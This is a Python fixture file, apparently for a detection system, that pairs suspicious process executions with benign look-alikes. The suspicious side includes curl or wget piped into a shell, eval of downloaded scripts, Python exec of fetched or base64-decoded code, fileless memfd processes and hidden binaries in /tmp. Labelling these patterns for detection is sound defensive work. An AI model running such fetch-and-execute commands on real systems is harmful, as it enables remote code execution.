"""Ways of executing what came from elsewhere, each with an ordinary act that resembles it."""

from __future__ import annotations

from support.behaviours.acts import PROCESS, Row, ran

EXECUTION: list[Row] = [
    (
        "download_piped_to_interpreter",
        PROCESS,
        ran("bash", ReadsCommands=True, InputFrom=["/usr/bin/wget"]),
        ran("python3 -m json.tool", InputFrom=["/usr/bin/curl"]),
    ),
    (
        "download_piped_to_interpreter",
        PROCESS,
        ran("curl -s https://x", OutputIsCommands=True, OutputTo=["/bin/cat", "/bin/sh"]),
        ran("curl -s https://x", OutputTo=["/usr/bin/jq"]),
    ),
    (
        "download_piped_to_interpreter",
        PROCESS,
        ran("bash -c curl -s https://x | bash -s -- -y"),
        ran("bash -c curl -s https://x/a.json | python3 -m json.tool"),
    ),
    (
        "download_piped_to_interpreter",
        PROCESS,
        ran("tee copy.sh", InputFrom=["/usr/bin/curl"], OutputIsCommands=True, OutputTo=["/bin/sh"]),
        ran("tee copy.json", InputFrom=["/usr/bin/curl"], OutputTo=["/usr/bin/jq"]),
    ),
    (
        "encoded_to_interpreter",
        PROCESS,
        ran("tee copy.sh", InputFrom=["/usr/bin/base64"], OutputIsCommands=True, OutputTo=["/bin/sh"]),
        ran("tee copy.png", InputFrom=["/usr/bin/base64"]),
    ),
    (
        "download_substituted",
        PROCESS,
        ran('bash -c eval "$(curl -fsSL https://x/i.sh)"'),
        ran('bash -c eval "$(ssh-agent -s)"; V=$(curl -s https://x/version)'),
    ),
    (
        "download_substituted",
        PROCESS,
        ran("python3 -c import urllib.request as u; exec(u.urlopen('http://x').read())"),
        ran("python3 -c import urllib.request as u; print(u.urlopen('http://x').read())"),
    ),
    (
        "encoded_to_interpreter",
        PROCESS,
        ran("openssl base64 -d", OutputIsCommands=True, OutputTo=["/bin/bash"]),
        ran("openssl base64 -d", OutputTo=["/bin/tar"]),
    ),
    (
        "download_piped_to_interpreter",
        PROCESS,
        ran("busybox wget -qO- http://x", OutputIsCommands=True, OutputTo=["/bin/busybox"]),
        ran("busybox cat notes.txt", OutputIsCommands=True, OutputTo=["/bin/busybox"]),
    ),
    ("hidden_program_runs", PROCESS, ran("/tmp/x/.cache-x 3"), ran("/tmp/.mount_app/usr/bin/app")),
    ("program_in_shared_memory_runs", PROCESS, ran("/dev/shm/.x12 3"), ran("ls /dev/shm")),
    ("program_in_temporary_folder_runs", PROCESS, ran("/tmp/agent"), ran("/tmp/pip-build-env-x/overlay/bin/cmake ..")),
    (
        "fileless_program",
        PROCESS,
        ran("[kworker/0:1]x", "/memfd:x"),
        ran("runc init", "/memfd:runc_cloned:/proc/self/exe"),
    ),
    (
        "program_deleted",
        PROCESS,
        ran("/home/u/x", ImageDeleted=True),
        ran("/home/u/x"),
    ),
    (
        "encoded_to_interpreter",
        PROCESS,
        ran("bash", ReadsCommands=True, InputFrom=["/usr/bin/base64"]),
        ran("cmp - plot.png", InputFrom=["/usr/bin/base64"]),
    ),
    (
        "encoded_to_interpreter",
        PROCESS,
        ran("bash -c echo aGk= | base64 -d | sh"),
        ran("bash -c echo aGk= | base64 -d > plot.png"),
    ),
    (
        "encoded_to_interpreter",
        PROCESS,
        ran("python3 -c import base64; exec(base64.b64decode('aGk='))"),
        ran("python3 -c import base64; print(base64.b64decode('aGk='))"),
    ),
]
